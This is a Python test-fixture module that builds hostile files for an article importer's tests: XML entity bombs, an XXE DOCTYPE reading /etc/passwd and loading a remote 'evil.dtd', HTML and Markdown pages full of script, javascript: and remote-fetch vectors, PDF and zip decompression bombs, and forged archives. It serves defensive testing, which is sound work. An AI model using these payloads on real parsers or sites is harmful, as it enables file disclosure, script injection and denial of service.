"""Hostile files, made in code during the test run (nothing big is committed): entity bombs, zip bombs,
PDF decompression bombs, pages full of scripts and remote resources, and small valid samples to mutate.

Every builder returns bytes; a test writes them where it needs them.
"""

from __future__ import annotations

import io
import zipfile
import zlib

from docx import Document

from tests.support.pdf import pdf_file

# Words a real article would contain, so that an importer has something worth keeping.
SENTENCE = "The council approved the new budget on Tuesday, the mayor told reporters after the meeting."
# Marks the script, handler and style content of the hostile pages: none of it may reach an article.
SCRIPT_MARK = "XSCRIPTX"


def billion_laughs(root: str = "html", levels: int = 9) -> str:
    """A DOCTYPE whose entity ``&lol9;`` expands to 10^9 "lol"s (the classic "billion laughs")."""
    lines = [f"<!DOCTYPE {root} [", '<!ENTITY lol0 "lol">']
    for i in range(1, levels + 1):
        lines.append(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">')
    lines.append("]>")
    return "\n".join(lines)


def quadratic_blowup(root: str = "html") -> str:
    """One 100 KB entity referenced 10,000 times: a gigabyte without nesting (evades nesting limits)."""
    return f'<!DOCTYPE {root} [<!ENTITY big "{"x" * 100_000}">]>'


XXE_DOCTYPE = (
    '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
    '<!ENTITY % remote SYSTEM "http://198.51.100.7/evil.dtd"> %remote;]>'
)


def laughs_page(doctype: str, ref: str, *, xhtml: bool) -> bytes:
    head = '<?xml version="1.0"?>\n' if xhtml else ""
    ns = ' xmlns="http://www.w3.org/1999/xhtml"' if xhtml else ""
    body = f"<p>{SENTENCE} {ref}</p>" * 3
    page = f"<html{ns}><head><title>Budget</title></head><body><article>{body}</article></body></html>"
    return f"{head}{doctype}{page}".encode()


def evil_page() -> bytes:
    """A news page carrying every way HTML can run code or fetch something."""
    m = SCRIPT_MARK
    return f"""<!DOCTYPE html><html><head>
<base href="http://198.51.100.7/"><meta http-equiv="refresh" content="0;url=http://198.51.100.7/">
<link rel="stylesheet" href="http://198.51.100.7/x.css"><link rel="canonical" href="javascript:{m}()">
<style>@import url(http://198.51.100.7/i.css); body {{ background: url(file:///etc/passwd) }} .{m} {{}}</style>
<script>{m}1 = fetch('http://198.51.100.7/');</script><title>Council approves budget</title></head>
<body onload="{m}2()"><article><h1>Council approves budget</h1>
<p onclick="{m}3()">{SENTENCE}</p>
<p>Read <a href="javascript:{m}4()">this</a>, <a href="data:text/html,&lt;script&gt;{m}5&lt;/script&gt;">that</a>
and <a href="vbscript:{m}6">more</a> about the plans the council has made.</p>
<img src="file:///etc/passwd"><img src="http://198.51.100.7/pixel.gif" onerror="{m}7()">
<iframe src="http://198.51.100.7/frame" srcdoc="&lt;script&gt;{m}8&lt;/script&gt;"></iframe>
<svg><script>{m}9</script><foreignObject><p>svg</p></foreignObject></svg>
<noscript><img src="http://198.51.100.7/noscript.gif"></noscript>
<p>"We will spend more on schools," the mayor said, adding that taxes would not rise this year.</p>
<script type="module">{m}10</script><template><script>{m}11</script></template>
<object data="http://198.51.100.7/o.swf">{m}12</object><embed src="http://198.51.100.7/e.swf">
<form action="http://198.51.100.7/"><input onfocus="{m}13()" autofocus></form>
</article></body></html>""".encode()


def evil_markdown() -> bytes:
    m = SCRIPT_MARK
    return f"""# Council approves budget

{SENTENCE}

<script>alert("{m}1")</script>

<style>body {{ background: url(http://198.51.100.7/{m}2) }}</style>

<img src="http://198.51.100.7/x.gif" onerror="{m}3()"> "We will spend more on schools," the mayor said.

<iframe src="http://198.51.100.7/">{m}4</iframe> <!-- {m}5 -->

[click](javascript:{m}6) and ![pixel](http://198.51.100.7/{m}7.gif)

<SCRIPT type="text/javascript">unclosed {m}8
""".encode()


def pdf(objects: list[bytes], root: int = 1) -> bytes:
    return pdf_file(objects, root=root)


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
_TEXT = f"BT /F1 12 Tf 72 700 Td ({SENTENCE}) Tj ET\n".encode()


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _flate_of_blanks(size: int) -> bytes:
    """``size`` bytes of spaces, deflated, made without ever holding them in memory."""
    block = b" " * (1 << 20)
    c = zlib.compressobj(9)
    parts = [c.compress(_TEXT)]
    parts += [c.compress(block) for _ in range(size // len(block))]
    parts.append(c.flush())
    return b"".join(parts)


def _page(contents: int, resources: bytes = b"/Font << /F1 4 0 R >>") -> bytes:
    return (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << " + resources
            + b" >> /Contents %d 0 R >>" % contents)


def text_pdf(pages: int = 2) -> bytes:
    """A small, valid PDF with one sentence per page."""
    kids = " ".join(f"{5 + 2 * i} 0 R" for i in range(pages)).encode()
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
            b"<< >>", _FONT]
    for i in range(pages):
        # Different words on every page: a line repeated on every page is dropped as a running header.
        word = "".join(chr(ord("a") + int(digit)) for digit in str(i)).capitalize()
        text = f"BT /F1 12 Tf 72 700 Td ({word} said the council approved the budget on Tuesday.) Tj ET\n"
        objs.append(_page(6 + 2 * i))
        objs.append(_stream(text.encode()))
    return pdf(objs)


def pdf_gigabyte_stream() -> bytes:
    """One page whose content stream inflates to 1 GiB (about 1 MB on disk)."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(5), _FONT, _stream(_flate_of_blanks(1 << 30), b"/Filter /FlateDecode ")]
    return pdf(objs)


def pdf_shared_stream(pages: int = 200, size: int = 30 << 20) -> bytes:
    """Many pages drawing one stream that inflates to ``size`` bytes: small on disk, gigabytes to read."""
    kids = " ".join(f"{6 + i} 0 R" for i in range(pages)).encode()
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
            b"<< >>", _FONT, _stream(_flate_of_blanks(size), b"/Filter /FlateDecode ")]
    objs += [_page(5) for _ in range(pages)]
    return pdf(objs)


def pdf_form_bomb(levels: int = 9, fanout: int = 10) -> bytes:
    """Forms drawing forms: each draws the next ``fanout`` times, ``levels`` deep (a PDF billion laughs)."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(5 + levels, b"/Font << /F1 4 0 R >> /XObject << /X 5 0 R >>"), _FONT]
    for level in range(levels):
        if level < levels - 1:
            content = b"/X Do\n" * fanout
            res = b"/Resources << /Font << /F1 4 0 R >> /XObject << /X %d 0 R >> >>" % (6 + level)
        else:
            content, res = _TEXT, b"/Resources << /Font << /F1 4 0 R >> >>"
        objs.append(_stream(content, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] " + res + b" "))
    objs.append(_stream(_TEXT + b"/X Do\n"))
    return pdf(objs)


def pdf_big_form_drawn_often(times: int = 100, size: int = 10 << 20) -> bytes:
    """One page drawing a form that inflates to ``size`` bytes, ``times`` times."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(6, b"/Font << /F1 4 0 R >> /XObject << /X 5 0 R >>"), _FONT,
            _stream(_flate_of_blanks(size), b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
                    b"/Resources << /Font << /F1 4 0 R >> >> /Filter /FlateDecode "),
            _stream(_TEXT + b"/X Do\n" * times)]
    return pdf(objs)


def pdf_nested_content(depth: int = 100_000) -> bytes:
    """A page whose drawing instructions nest arrays ``depth`` deep (pypdf's parser recurses into them)."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(5), _FONT, _stream(_TEXT + b"[" * depth + b" TJ")]
    return pdf(objs)


def docx_bytes(paragraphs: tuple[str, ...] = (SENTENCE,)) -> bytes:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def zip_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def make_zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_with_doctype(doctype: str, ref: str, part: str = "word/document.xml") -> bytes:
    """A valid .docx whose ``part`` declares ``doctype`` and uses ``ref`` in its text."""
    parts = zip_parts(docx_bytes())
    xml = parts[part].decode("utf-8")
    at = xml.index("?>") + 2
    xml = xml[:at] + doctype + xml[at:]
    if SENTENCE in xml:
        xml = xml.replace(SENTENCE, f"{ref} {SENTENCE}")
    parts[part] = xml.encode("utf-8")
    return make_zip(parts)


def docx_zip_bomb() -> bytes:
    """A .docx with a 250 MB part of zeros (compresses about 1000 times)."""
    parts = zip_parts(docx_bytes())
    parts["word/media/image1.bin"] = b"\0" * (250 << 20)
    return make_zip(parts)


def docx_many_entries(n: int = 20_000) -> bytes:
    parts = zip_parts(docx_bytes())
    parts.update({f"word/x{i}.xml": b"<a/>" for i in range(n)})
    return make_zip(parts)


def docx_declared_too_big() -> bytes:
    """A .docx whose directory declares 400 MB for one tiny part (sizes are read from the directory)."""
    data = bytearray(make_zip({**zip_parts(docx_bytes()), "word/media/x.bin": b"x"}))
    # Patch the central directory entry of the last member: uncompressed size (offset 24 in the entry).
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (400 << 20).to_bytes(4, "little")
    return bytes(data)


def docx_nested_zip() -> bytes:
    """A .docx carrying a zip bomb as an embedded file: the importer must never open embedded archives."""
    parts = zip_parts(docx_bytes())
    inner = make_zip({"zeros.bin": b"\0" * (50 << 20)})
    parts["word/embeddings/oleObject1.bin"] = inner
    return make_zip(parts)


def mhtml(page: bytes) -> bytes:
    """A "save as single file" web archive around ``page`` (base64, as browsers write it)."""
    import base64

    encoded = base64.encodebytes(page)
    return (b'MIME-Version: 1.0\r\nSnapshot-Content-Location: javascript:alert(1)\r\n'
            b'Content-Type: multipart/related; type="text/html"; boundary="----b"\r\n\r\n'
            b"------b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n"
            b"Content-Location: javascript:alert(2)\r\n\r\n" + encoded + b"\r\n"
            b"------b\r\nContent-Type: image/png\r\nContent-Location: file:///etc/passwd\r\n\r\nxx\r\n------b--\r\n")


def pdf_deep_page_tree(depth: int = 3000) -> bytes:
    """Pages inside pages ``depth`` levels deep before the one real page (pypdf stops at 100)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        objects.append(f"<< /Type /Pages /Kids [{level + 3} 0 R] /Count 1 >>".encode())
    objects.append(f"<< /Type /Page /Parent {depth + 1} 0 R /MediaBox [0 0 595 842] >>".encode())
    return pdf_file(objects)
